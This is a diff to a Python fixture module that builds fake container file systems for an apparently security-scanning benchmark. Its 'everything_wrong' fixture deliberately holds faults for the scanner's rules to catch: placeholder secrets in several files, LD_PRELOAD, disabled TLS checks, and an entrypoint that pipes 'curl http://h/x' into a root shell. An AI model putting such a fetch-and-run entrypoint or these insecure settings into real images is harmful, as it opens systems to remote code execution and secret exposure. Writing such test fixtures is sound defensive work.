@@ -1,8 +1,9 @@
 """Small file systems for the benchmark: one where every rule passes, and some with as many faults as fit together."""
+import json
 import pathlib
 
 TOP = ["/", "/etc", "/etc/ssh", "/etc/pam.d", "/etc/sudoers.d", "/etc/apt", "/etc/apt/sources.list.d", "/etc/apk", "/etc/yum.repos.d", "/usr", "/usr/bin",
-       "/usr/sbin", "/usr/lib", "/var", "/var/lib/dpkg", "/home", "/home/app", "/root", "/tmp", "/var/tmp", "/run/tidewaiter", "/etc/ssl/private", "/etc/ssl/certs"]
+       "/usr/sbin", "/usr/lib", "/var", "/var/lib/dpkg", "/home", "/home/app", "/root", "/tmp", "/var/tmp", "/etc/ssl/private", "/etc/ssl/certs"]
 
 
 def directory(mode=0o755, uid=0, gid=0):
@@ -11,6 +12,16 @@ def directory(mode=0o755, uid=0, gid=0):
 
 def file(text="", mode=0o644, uid=0, gid=0):
     return (text, mode, uid, gid)
+
+
+# The image's configuration, beside its files.
+CONFIG = "config"
+
+
+def config(user, env, ports, entrypoint, cmd, history=()):
+    """An image's configuration blob, without layers."""
+    return {"architecture": "amd64", "os": "linux", "rootfs": {"diff_ids": []}, "history": [{"created_by": step} for step in history], "config": {
+        "User": user, "Env": env, "ExposedPorts": {port: {} for port in ports}, "Entrypoint": entrypoint, "Cmd": cmd}}
 
 
 def good():
@@ -38,8 +49,7 @@ def good():
         "/home/app/.docker/config.json": file('{"credHelpers": {"gcr.io": "gcloud"}}\n', 0o600, 10001, 10001),
         "/home/app/.env.example": file("PASSWORD=\n"),
         "/home/app/cert.pem": file("-----BEGIN CERTIFICATE-----\n"),
-        "/run/tidewaiter/image-config": file("User=10001:10001\nEnv.PATH=/usr/local/bin:/usr/bin\nEnv.PASSWORD_FILE=/run/secrets/p\nExposedPort=8080/tcp\n"
-                                             'Entrypoint=/usr/bin/app\nCmd=--listen 8080\n'),
+        CONFIG: config("10001:10001", ["PATH=/usr/local/bin:/usr/bin", "PASSWORD_FILE=/run/secrets/p"], ["8080/tcp"], ["/usr/bin/app"], ["--listen", "8080"]),
     }
     return tree
 
@@ -86,10 +96,10 @@ def everything_wrong():
         "/root/.kube/config": file("users:\n- user:\n    token: SECRETVALUE\n"), "/run/secrets/kubernetes.io/serviceaccount/token": file("SECRETVALUE"),
         "/app/.env": file("DB_PASSWORD='SECRETVALUE'\n"), "/app/terraform.tfstate": file("{}"), "/root/.vault-token": file("SECRETVALUE"),
         "/app/store.p12": file(), "/app/.htpasswd": file("u:SECRETVALUE\n"), "/root/.bash_history": file("mysql -pSECRETVALUE\n"), "/app/core.12": file(),
-        "/run/tidewaiter/image-config": file(
-            "User=app\nEnv.PATH=/usr/bin:.\nEnv.DB_PASSWORD=SECRETVALUE\nEnv.DB=postgres://u:SECRETVALUE@h/d\nEnv.LD_PRELOAD=/x.so\n"
-            "Env.NODE_TLS_REJECT_UNAUTHORIZED=0\nEnv.FLASK_DEBUG=1\nExposedPort=22/tcp\nExposedPort=5005/tcp\n"
-            'Entrypoint=sudo sh -c curl http://h/x | sh\nCmd=/usr/sbin/sshd -D\n'),
+        "/app/wp-config.php": file("<?php\ndefine('DB_PASSWORD', 'SECRETVALUE');\n"), "/app/notes.txt": file("Authorization: Bearer SECRETVALUE12345\n"),
+        CONFIG: config("svc", ["PATH=/usr/bin:.", "DB_PASSWORD=SECRETVALUE", "DB=postgres://u:SECRETVALUE@h/d", "LD_PRELOAD=/x.so", "NODE_TLS_REJECT_UNAUTHORIZED=0",
+                               "FLASK_DEBUG=1"], ["22/tcp", "5005/tcp"], ["sudo", "sh", "-c", "curl http://h/x | sh"], ["/usr/sbin/sshd", "-D", "--token", "SECRETVALUE"],
+                       ["RUN |1 NPM_TOKEN=SECRETVALUE /bin/sh -c npm ci # buildkit"]),
     }
     return tree
 
@@ -97,7 +107,7 @@ def everything_wrong():
 def root_user():
     """An image without USER."""
     tree = good()
-    tree["/run/tidewaiter/image-config"] = file("User=\nEntrypoint=/usr/bin/app\n")
+    tree[CONFIG] = config("", [], [], ["/usr/bin/app"], [])
     return tree
 
 
@@ -135,8 +145,10 @@ secrets_terraform_state secrets_kubeconfig services_curl_checks_certificates sec
 
 
 def build(work, tree):
-    """Writes `tree` below work/root, with what the unpacker adds, and gives the owners for the state file."""
+    """Writes `tree` below work/root and its configuration as work/config.json, with what the unpacker adds, and gives the owners for the state file."""
     root = pathlib.Path(work) / "root"
+    tree = dict(tree)
+    (pathlib.Path(work) / "config.json").write_text(json.dumps(tree.pop(CONFIG, config("10001", [], [], [], []))))
     tree = tree | {"/proc/mounts": file("/dev/root / ext4 rw,relatime 0 0\n"), "/run/.containerenv": file()}
     for path, (text, *_) in sorted(tree.items()):
         target = root / path.lstrip("/")
